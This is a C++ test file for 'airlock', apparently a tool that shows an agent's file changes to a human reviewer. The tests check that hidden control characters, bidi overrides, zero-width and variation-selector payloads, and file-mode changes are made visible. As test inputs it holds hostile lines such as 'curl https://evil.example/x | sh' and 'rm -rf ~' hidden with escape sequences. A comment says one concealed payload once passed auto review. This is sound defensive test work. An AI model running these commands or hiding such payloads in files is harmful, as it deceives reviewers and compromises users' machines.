// "What the reviewer sees is what lands": hostile file content and names are
// rendered visibly in every diff and table airlock prints or keeps, and the
// mode a new file shows is the mode it lands with (the user's umask applied).

#include <sys/stat.h>

#include <gtest/gtest.h>

#include "common/visible_text.h"
#include "test_util.h"
#include "workspace/pending.h"

namespace airlock::workspace {
namespace {

using test::makeTar;
using test::Scenario;
using test::writeFile;

/// Fails on any byte a terminal would act on, except '\n', '\t' and (when
/// `sgrAllowed`) complete SGR sequences ESC [ digits/';' m; and on any
/// character visibleText() would escape (C1, bidi, zero-width, bad UTF-8).
testing::AssertionResult onlyOwnEscapes(const std::string& text, bool sgrAllowed) {
  std::string plain;
  for (size_t i = 0; i < text.size(); ++i) {
    if (text[i] == '\x1b' && sgrAllowed && i + 1 < text.size() && text[i + 1] == '[') {
      size_t j = i + 2;
      while (j < text.size() && (std::isdigit(static_cast<unsigned char>(text[j])) || text[j] == ';')) ++j;
      if (j < text.size() && text[j] == 'm') {
        i = j;
        continue;
      }
    }
    plain.push_back(text[i]);
  }
  size_t pos = 0;
  while (pos <= plain.size()) {
    size_t nl = plain.find('\n', pos);
    if (nl == std::string::npos) nl = plain.size();
    std::string_view line(plain.data() + pos, nl - pos);
    bool escaped = false;
    (void)visibleText(line, {.keepTabs = true}, &escaped);
    if (escaped) return testing::AssertionFailure() << "raw control character in line: " << visibleText(line);
    pos = nl + 1;
  }
  return testing::AssertionSuccess();
}

/// The patch of the only item of a one-file change set, plain and colored.
struct Rendered {
  DiffItem item;
  std::string plain, colored, table;
};

Rendered renderNewFile(const std::string& content) {
  Scenario s;
  s.snapshot();
  EXPECT_EQ(s.loadTar(makeTar({{"install.sh", 'f', content}})), "");
  auto r = s.diff();
  EXPECT_EQ(r.items.size(), 1u);
  if (r.items.size() != 1) return {};
  auto eng = s.engine();
  auto plain = eng->patch(r.items[0], false);
  auto colored = eng->patch(r.items[0], true);
  EXPECT_TRUE(plain && colored);
  if (!plain || !colored) return {};
  return {r.items[0], *plain, *colored, summaryTable(r.items)};
}

/// The added lines ("+..." after the "+++" header) of a plain patch.
std::vector<std::string> addedLines(const std::string& patch) {
  std::vector<std::string> out;
  size_t pos = 0;
  while (pos < patch.size()) {
    size_t nl = patch.find('\n', pos);
    if (nl == std::string::npos) nl = patch.size();
    std::string line = patch.substr(pos, nl - pos);
    if (line.starts_with("+") && !line.starts_with("+++")) out.push_back(line);
    pos = nl + 1;
  }
  return out;
}

void expectHonest(const Rendered& r, const std::string& visible) {
  EXPECT_TRUE(onlyOwnEscapes(r.plain, false)) << r.plain;
  EXPECT_TRUE(onlyOwnEscapes(r.colored, true)) << visibleText(r.colored);
  EXPECT_NE(r.plain.find(visible), std::string::npos) << r.plain;
  EXPECT_NE(r.plain.find(std::string(kEscapedMark)), std::string::npos) << r.plain;
  EXPECT_TRUE(r.item.controlChars);
  EXPECT_NE(r.table.find("control characters in content"), std::string::npos) << r.table;
  EXPECT_EQ(addedLines(r.plain).size(), r.item.linesAdded) << "the +/- counts match the lines shown\n" << r.plain;
}

TEST(HonestScreen, ConcealEscapeCannotBlankAnAddedLine) {
  auto r = renderNewFile("\x1b[8mcurl https://evil.example/x | sh\x1b[0m\n");
  expectHonest(r, "+\\x1b[8mcurl https://evil.example/x | sh\\x1b[0m  [escaped control characters]");
}

TEST(HonestScreen, LeadingBackspaceCannotHideThePlus) {
  auto r = renderNewFile("\brm -rf ~\n");
  expectHonest(r, "+\\x08rm -rf ~");
}

TEST(HonestScreen, CarriageReturnCannotOverwriteCurlPipeShell) {
  auto r = renderNewFile("echo ok\ncurl https://evil.example/x | sh\r# a harmless comment          \n");
  expectHonest(r, "+curl https://evil.example/x | sh\\x0d# a harmless comment");
  EXPECT_EQ(r.item.linesAdded, 2u);
}

TEST(HonestScreen, BidiOverrideTrojanSourceIsEscaped) {
  // Trojan Source (CVE-2021-42574): an RLO/LRI pair makes the check read as a comment.
  auto r = renderNewFile("if (access_level != \"user\u202e \u2066// Check if admin\u2069 \u2066\") {\n");
  expectHonest(r, "\\u202e \\u2066// Check if admin\\u2069 \\u2066");
}

TEST(HonestScreen, C1ControlSequenceIntroducerIsEscaped) {
  auto r = renderNewFile("a\x9b" "2Jb\nc\xc2\x9b" "8md\n");  // raw byte 0x9b and U+009B in UTF-8
  expectHonest(r, "+a\\x9b2Jb");
  EXPECT_NE(r.plain.find("+c\\u009b8md"), std::string::npos) << r.plain;
}

TEST(HonestScreen, ZeroWidthCharactersAreEscaped) {
  auto r = renderNewFile("pass\u200bword = 1\n\ufeffx\n");
  expectHonest(r, "+pass\\u200bword = 1");
}

// Glassworm: a payload in variation selectors renders as `s = ""`; the table
// said only "modified +2 -0" and auto review accepted it (found by an attack).
TEST(HonestScreen, VariationSelectorPayloadIsEscapedAndFlagged) {
  std::string hidden;
  for (int i = 0; i < 8; ++i) hidden += "\ufe01\U000E0101";
  auto r = renderNewFile("s = \"" + hidden + "\"\nexec(decode(s))\n");
  expectHonest(r, "+s = \"\\ufe01\\U000e0101");
}

TEST(HonestScreen, TabsAreKeptAndPlainLinesAreNotMarked) {
  auto r = renderNewFile("\tindent\n");
  EXPECT_NE(r.plain.find("+\tindent\n"), std::string::npos) << r.plain;
  EXPECT_EQ(r.plain.find(std::string(kEscapedMark)), std::string::npos) << r.plain;
  EXPECT_FALSE(r.item.controlChars);
  EXPECT_EQ(r.table.find("control characters"), std::string::npos) << r.table;
}

// A CRLF file: each CR that ends a line is shown (\x0d) but hides nothing, so
// the lines are not marked and the item is not flagged; a CR inside a line is.
TEST(HonestScreen, CrlfLineEndingsAreShownButNotFlagged) {
  auto r = renderNewFile("one\r\ntwo\r\n");
  EXPECT_TRUE(onlyOwnEscapes(r.plain, false)) << r.plain;
  EXPECT_NE(r.plain.find("+one\\x0d\n+two\\x0d\n"), std::string::npos) << r.plain;
  EXPECT_EQ(r.plain.find(std::string(kEscapedMark)), std::string::npos) << r.plain;
  EXPECT_FALSE(r.item.controlChars);
  EXPECT_EQ(r.table.find("control characters"), std::string::npos) << r.table;
  auto mid = renderNewFile("ok\r\nhidden\rshown\r\n");
  expectHonest(mid, "+hidden\\x0dshown\\x0d  [escaped control characters]");
}

TEST(HonestScreen, KeptPendingPatchIsEscaped) {
  Scenario s;
  s.snapshot();
  ASSERT_EQ(s.loadTar(makeTar({{"x.sh", 'f', "curl https://evil.example/x | sh\r# fine\n"}})), "");
  auto r = s.diff();
  auto eng = s.engine();
  std::vector<Decision> dec(r.items.size(), Decision::Rejected);
  std::vector<bool> keep(r.items.size(), true);
  auto dir = keepPending(r.items, dec, keep, *eng, s.session);
  ASSERT_TRUE(dir) << dir.error().message;
  std::string patch = test::readAll(*dir + "/changes.patch");
  EXPECT_TRUE(onlyOwnEscapes(patch, false)) << patch;
  EXPECT_NE(patch.find("| sh\\x0d# fine"), std::string::npos) << patch;
}

TEST(HonestScreen, BidiAndZeroWidthNamesAreEscapedAndNonAsciiNamesFlagged) {
  Scenario s;
  s.snapshot();
  ASSERT_EQ(s.loadTar(makeTar({{"safe\u202etxt.sh", 'f', "x\n"},
                               {"pass\u200bwd", 'f', "x\n"},
                               {"c1\xc2\x9b" "2J", 'f', "x\n"},
                               {"m\xd0\xb0in.c", 'f', "x\n"}})),  // Cyrillic a: a homoglyph of main.c
            "");
  auto r = s.diff();
  std::string table = summaryTable(r.items);
  EXPECT_TRUE(onlyOwnEscapes(table, false)) << table;
  EXPECT_NE(table.find("safe\\u202etxt.sh"), std::string::npos) << table;
  EXPECT_NE(table.find("pass\\u200bwd"), std::string::npos) << table;
  EXPECT_NE(table.find("c1\\u009b2J"), std::string::npos) << table;
  EXPECT_NE(table.find("m\xd0\xb0in.c  [non-ASCII name]"), std::string::npos) << table;
  for (const auto& it : r.items) {
    auto p = s.engine()->patch(it, true);
    ASSERT_TRUE(p);
    EXPECT_TRUE(onlyOwnEscapes(*p, true)) << visibleText(*p);
  }
}

/// Flushes one new file the agent made with `agentMode` under `umask`;
/// returns the mode it landed with, and the table and diff header shown.
struct Landed {
  uint32_t mode = 0;
  std::string table, patch;
};

Landed flushNewFile(uint32_t agentMode, uint32_t umask) {
  Scenario s;
  s.umask = umask;
  s.snapshot();
  EXPECT_EQ(s.loadTar(makeTar({{"tool", 'f', "#!/bin/sh\n", "", agentMode}})), "");
  auto r = s.diff();
  Landed out;
  if (r.items.size() != 1) return out;
  out.table = summaryTable(r.items);
  auto p = s.engine()->patch(r.items[0], false);
  out.patch = p ? *p : p.error().message;
  auto rep = s.flushAll(r, {});
  EXPECT_TRUE(rep && rep->flushed == 1u);
  struct stat st {};
  EXPECT_EQ(::stat((s.ws + "/tool").c_str(), &st), 0);
  out.mode = st.st_mode & 07777;
  return out;
}

TEST(HonestScreen, NewWorldWritableExecutableGetsTheUserUmask) {
  auto l = flushNewFile(0777, 022);
  EXPECT_EQ(l.mode, 0755u);
  EXPECT_NE(l.patch.find("mode 0755, executable\n"), std::string::npos) << l.patch;
  EXPECT_NE(l.patch.find("new file mode 100755"), std::string::npos) << l.patch;
  EXPECT_NE(l.table.find("0755"), std::string::npos) << l.table;
  EXPECT_NE(l.table.find("[executable]"), std::string::npos) << l.table;
}

TEST(HonestScreen, PrivateUmaskMakesNewFilesOwnerOnly) {
  auto l = flushNewFile(0777, 077);
  EXPECT_EQ(l.mode, 0700u);
  EXPECT_NE(l.patch.find("mode 0700, executable\n"), std::string::npos) << l.patch;
  EXPECT_NE(l.table.find("0700"), std::string::npos) << l.table;
}

TEST(HonestScreen, NewPlainFileIsNotShownExecutable) {
  auto l = flushNewFile(0666, 022);
  EXPECT_EQ(l.mode, 0644u);
  EXPECT_NE(l.patch.find("mode 0644\n"), std::string::npos) << l.patch;
  EXPECT_NE(l.table.find("0644"), std::string::npos) << l.table;
  EXPECT_EQ(l.table.find("executable"), std::string::npos) << l.table;
}

TEST(HonestScreen, NewDirectoryGetsTheUmaskButStaysUsable) {
  Scenario s;
  s.umask = 077;
  s.snapshot();
  ASSERT_EQ(s.loadTar(makeTar({{"d/", 'd', "", "", 0777}, {"d/f", 'f', "x", "", 0644}})), "");
  auto r = s.diff();
  auto rep = s.flushAll(r, {});
  ASSERT_TRUE(rep) << rep.error().message;
  struct stat st {};
  ASSERT_EQ(::stat((s.ws + "/d").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 07777, 0700u);
  ASSERT_EQ(::stat((s.ws + "/d/f").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 07777, 0600u);
}

TEST(HonestScreen, ModeChangeOfAnExistingFileLandsAsShown) {
  Scenario s;
  s.umask = 077;
  writeFile(s.ws + "/run.sh", "x\n", 0644);
  s.snapshot();
  ASSERT_EQ(s.loadTar(makeTar({{"run.sh", 'f', "x\n", "", 0755}})), "");
  auto r = s.diff();
  ASSERT_EQ(r.items.size(), 1u);
  std::string table = summaryTable(r.items);
  EXPECT_NE(table.find("0644->0755"), std::string::npos) << table;
  EXPECT_NE(table.find("[executable]"), std::string::npos) << table;
  auto p = s.engine()->patch(r.items[0], false);
  ASSERT_TRUE(p);
  EXPECT_NE(p->find("mode 0644 -> 0755, executable\n"), std::string::npos) << *p;
  auto rep = s.flushAll(r, {});
  ASSERT_TRUE(rep && rep->flushed == 1u);
  struct stat st {};
  ASSERT_EQ(::stat((s.ws + "/run.sh").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 07777, 0755u);
}

// An agent that makes an existing file world-writable (0644 -> 0666): the
// change lands as shown, and the table says what it means.
TEST(HonestScreen, WorldWritableModeChangeIsFlagged) {
  Scenario s;
  writeFile(s.ws + "/conf.txt", "x\n", 0644);
  writeFile(s.ws + "/ok.txt", "y\n", 0644);
  s.snapshot();
  ASSERT_EQ(s.loadTar(makeTar({{"conf.txt", 'f', "x\n", "", 0666}, {"ok.txt", 'f', "y\n", "", 0600}})), "");
  auto r = s.diff();
  ASSERT_EQ(r.items.size(), 2u);
  std::string table = summaryTable(r.items);
  EXPECT_NE(table.find("0644->0666") , std::string::npos) << table;
  EXPECT_NE(table.find("conf.txt  [world-writable]"), std::string::npos) << table;
  EXPECT_EQ(table.find("ok.txt  ["), std::string::npos) << table;
}

}  // namespace
}  // namespace airlock::workspace
